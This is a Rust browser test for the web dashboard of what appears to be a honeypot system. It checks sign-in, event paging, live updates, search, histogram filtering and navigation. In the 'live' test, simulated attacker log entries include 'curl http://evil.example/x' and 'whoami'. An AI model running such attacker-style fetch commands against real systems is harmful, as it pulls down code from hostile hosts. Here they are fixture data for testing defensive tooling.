//! What somebody does with the page.

use std::time::{Duration, Instant};

use decnet_db::contract::NewLog;

use crate::browser::Browser;
use crate::service::{PASSWORD, Service};
use crate::with_browser;

const IDS: &str = "return [...document.querySelectorAll('tr.event')].map(row => row.dataset.id).join()";

#[test]
fn somebody_signs_in_looks_around_and_goes() {
    with_browser(async |browser| {
        let service = Service::start().await;
        service.sign_in(&browser).await;
        assert_eq!(browser.text("#who").await, "alice");
        assert_eq!(browser.text("[data-figure=total_logs]").await, "1,600");
        // The token is nothing for scripts.
        assert_eq!(browser.run("return document.cookie").await, "");

        paging(&browser).await;
        live(&browser, &service).await;
        searching(&browser).await;
        narrowing(&browser).await;
        other_pages(&browser).await;
        assert_eq!(browser.complaints().await, "");

        browser.click("#sign-out").await;
        browser.text("[name=username]").await;
        browser.open(&format!("{}#/attackers", service.url)).await;
        browser.text("[name=username]").await;
        assert_eq!(browser.run("return document.querySelectorAll('tr').length").await, 0);
        browser.type_into("[name=username]", "alice").await;
        browser.type_into("[name=password]", "wrong").await;
        browser.press("\u{e007}").await;
        browser
            .until("return document.querySelector('.problem')?.textContent.includes('no such user')")
            .await;
        browser.type_into("[name=password]", PASSWORD).await;
        browser.press("\u{e007}").await;
        browser.until("return document.querySelector('h1')?.textContent === 'Attackers'").await;
    });
}

async fn paging(browser: &Browser) {
    let first = browser.run(IDS).await;
    browser.click(".older").await;
    browser.until(&format!("const ids = (() => {{ {IDS} }})(); return ids !== {first} && ids !== ''")).await;
    let second = browser.run(IDS).await;
    let (first, second) = (first.as_str().unwrap(), second.as_str().unwrap());
    let seen: Vec<_> = first.split(',').collect();
    assert!(second.split(',').all(|id| !seen.contains(&id)), "{second}");
    assert!(browser.text(".status").await.contains("paused"));
    browser.click(".pause").await;
    browser.until(&format!("const ids = (() => {{ {IDS} }})(); return ids === '{first}'")).await;
    // A row is opened by the keyboard too.
    browser.run("document.querySelector('button.open').focus()").await;
    browser.press("\u{e007}").await;
    assert!(browser.text("tr.details:not([hidden]) dl").await.contains("line"));
}

async fn live(browser: &Browser, service: &Service) {
    let event = |line: &str| {
        NewLog::new("decky-01", "ssh", "command", "203.0.113.99")
            .raw_line(line)
            .fields(serde_json::json!({ "command": line }))
    };
    // Somebody else writes; the row is there within two seconds.
    let begun = Instant::now();
    service.repository.add_log(event("curl http://evil.example/x")).await.unwrap();
    let first = "return document.querySelector('tr.event .c-line').innerText";
    browser.until(&format!("return (() => {{ {first} }})().includes('evil.example')")).await;
    assert!(begun.elapsed() < Duration::from_secs(2), "{:?}", begun.elapsed());
    browser.until("return document.querySelector('[data-figure=total_logs]').textContent === '1,601'").await;

    browser.click(".pause").await;
    service.repository.add_log(event("whoami")).await.unwrap();
    browser.until("return document.querySelector('.pause').textContent === 'Resume (1 new)'").await;
    assert!(browser.run(first).await.as_str().unwrap().contains("evil.example"));
    browser.click(".pause").await;
    browser.until(&format!("return (() => {{ {first} }})().includes('whoami')")).await;
}

async fn searching(browser: &Browser) {
    browser.press("\u{e00c}/").await;
    browser.type_into("input[type=search]", "service:ssh command:whoami\u{e007}").await;
    browser.until("return document.querySelectorAll('tr.event').length === 1").await;
    assert_eq!(browser.text(".list .total").await, "1 event");
    // A word of a row is a search as well, and the way back leads back.
    browser.click("tr.event .c-source button").await;
    browser.until("return location.hash.includes('203.0.113.99')").await;
    browser.run("history.back()").await;
    browser.until("return !location.hash.includes('203.0.113.99')").await;
    browser.until("return document.querySelectorAll('tr.event').length === 1").await;
    browser.run("location.hash = '#/'").await;
    browser.until("return document.querySelectorAll('tr.event').length === 50").await;
}

async fn narrowing(browser: &Browser) {
    let chart = browser
        .until(
            "const chart = document.querySelector('.histogram svg');
             const box = chart.getBoundingClientRect();
             return chart.querySelector('.bars rect') && [box.left, box.top, box.width, box.height]",
        )
        .await;
    let number = |place: usize| chart[place].as_f64().unwrap();
    let at = |part: f64| (number(0) + part * number(2), number(1) + number(3) / 2.0);
    browser.drag(at(0.25), at(0.5)).await;
    browser.until("return /from=\\d+&to=\\d+/.test(location.hash)").await;
    browser.until("return document.querySelector('.status')?.textContent.includes('fixed')").await;
    let hours = "const query = new URLSearchParams(location.hash.split('?')[1]);
                 return (query.get('to') - query.get('from')) / 3600000";
    let span = browser.run(hours).await;
    assert!((5.5..7.0).contains(&span.as_f64().unwrap()), "a quarter of a day: {span}");
    // The same by the keys, from the last bar to the left.
    browser.until("return document.querySelector('.bars rect')").await;
    browser.run("document.querySelector('.histogram svg').focus()").await;
    let before = browser.run("return location.hash").await;
    let arrows = "\u{e008}\u{e012}\u{e012}\u{e012}\u{e000}\u{e007}";
    browser.press(arrows).await;
    browser.until(&format!("return location.hash !== {before} && location.hash")).await;
    browser.run("location.hash = '#/'").await;
    browser.until("return document.querySelector('.status')?.textContent.includes('live')").await;
}

async fn other_pages(browser: &Browser) {
    browser.click("nav a[href='#/attackers']").await;
    browser.until("return document.querySelectorAll('table.plain tbody tr').length === 50").await;
    browser.click(".tools.end button").await;
    browser.until("return document.querySelectorAll('table.plain tbody tr').length > 50").await;
    // One that opened sessions.
    browser.run("location.hash = '#/bounties'").await;
    browser.until("return document.querySelectorAll('table.plain tbody tr').length > 5").await;
    let ip = browser.text("table.plain td[data-name=Attacker]").await;
    browser.run(&format!("location.hash = '#/attackers?search={ip}'")).await;
    browser.until("return document.querySelectorAll('table.plain tbody tr').length === 1").await;
    browser.click("table.plain tbody a").await;
    browser.until(&format!("return document.querySelector('h1')?.innerText === '{ip}'")).await;
    browser.until("return document.querySelectorAll('.bars rect').length > 0").await;
    browser.click(".chips a").await;
    browser.until("return document.querySelector('h1')?.innerText.startsWith('Session')").await;
    browser.until("return document.querySelectorAll('tr.event').length > 1").await;
    browser.click("nav a[href='#/deckies']").await;
    browser.until("return document.querySelectorAll('.badge.good').length === 5").await;
    browser.click("nav a[href='#/health']").await;
    browser.until("return document.querySelector('.card')?.innerText.includes('healthy')").await;
}
